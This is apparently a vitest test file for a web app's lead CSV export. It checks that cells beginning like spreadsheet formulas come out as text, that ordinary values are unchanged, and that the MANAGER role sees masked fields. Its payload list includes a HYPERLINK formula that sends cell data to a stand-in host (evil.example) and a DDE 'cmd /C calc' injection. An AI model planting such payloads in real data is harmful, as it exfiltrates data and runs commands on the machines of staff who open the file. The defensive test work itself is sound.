// Attack: CSV formula injection. An anonymous visitor names themselves "=HYPERLINK(…)" (or "+…", "-…", "@…",
// a leading tab or CR); staff export the lead list and open it in a spreadsheet, which runs it as a formula.
// Before, such cells were written as they came. They must come out as text (a leading '), and ordinary values
// (a phone with dashes, an address with @ inside, money) unchanged.
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { emailHash } from "~/lib/crypto.server";
import type { Role } from "~/modules/identity/permissions";
import { createTestDatabase } from "../support/database.ts";
import type { RunningServer } from "../support/server.ts";
import { apiCall, staffOfEveryRole, startTestServer, type Staff } from "../support/staff.ts";

let server: RunningServer;
let staff: Map<Role, Staff>;
const database = await createTestDatabase();
const { url, db } = database;

beforeAll(async () => {
  const started = await startTestServer(url);
  server = started.server;
  staff = await staffOfEveryRole(server, started.outbox, database, "csv");
});
afterAll(async () => {
  await server?.stop();
});

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];

async function exported(role: Role): Promise<Record<string, string>[]> {
  const res = await staff.get(role)!.visitor.get("admin", "/admin/leads/export.csv");
  expect(res.status).toBe(200);
  return parse(res.body.replace(/^\uFEFF/, ""), { columns: true }) as Record<string, string>[];
}

describe("the lead CSV export", () => {
  beforeAll(async () => {
    // Through the public API as a visitor would (the schemas trim a leading tab or CR, so those are stored directly).
    for (const [i, name] of FORMULAS.slice(0, 4).entries()) {
      const res = await apiCall(server, "POST", "yuya", "/api/leads", {
        body: {
          email: `formula${i}@example.jp`,
          name,
          company: name,
          source: "yuya_site",
          sourceDomain: "yuya-kabuki.com",
          leadType: "other",
          message: "hi",
          gdprConsent: true,
        },
      });
      expect(res.status).toBe(201);
    }
    for (const [i, name] of FORMULAS.slice(4).entries()) {
      const email = `stored${i}@example.jp`;
      await db.lead.create({
        data: { email, emailHash: emailHash(email), name, company: name, source: "direct", sourceDomain: "aoba-nekosora.com", notes: name },
      });
    }
    const email = "normal-person@example.jp";
    await db.lead.create({
      data: {
        email,
        emailHash: emailHash(email),
        name: "普通 太郎",
        company: "A-B @ Co",
        phone: "090-1234-5678",
        source: "direct",
        sourceDomain: "aoba-nekosora.com",
        estimatedValue: "1500000.50",
        notes: "call me - after six",
      },
    });
  });

  it("writes cells that start like a formula as text, for every role that may export", async () => {
    for (const role of ["ADMIN", "MANAGER"] as const) {
      const rows = await exported(role);
      for (const formula of FORMULAS) {
        const row = rows.find((r) => r.name === `'${formula}`);
        expect(row, `${role}: ${JSON.stringify(formula)}`).toBeDefined();
        expect(row!.company).toBe(`'${formula}`);
      }
      for (const row of rows)
        for (const [column, cell] of Object.entries(row))
          expect(/^[=+\-@\t\r＝＋－＠]/.test(cell), `${role} ${column}: ${JSON.stringify(cell)}`).toBe(false);
    }
  });

  it("leaves ordinary values as they are", async () => {
    const row = (await exported("ADMIN")).find((r) => r.email === "normal-person@example.jp")!;
    expect(row).toMatchObject({
      name: "普通 太郎",
      company: "A-B @ Co",
      phone: "090-1234-5678",
      estimated_value: "1500000.5",
      notes: "call me - after six",
    });
    const masked = (await exported("MANAGER")).find((r) => r.name === "普通 太郎")!;
    expect(masked).toMatchObject({ email: "no***@example.jp", phone: "090-***-5678", notes: "[REDACTED]" });
  });
});
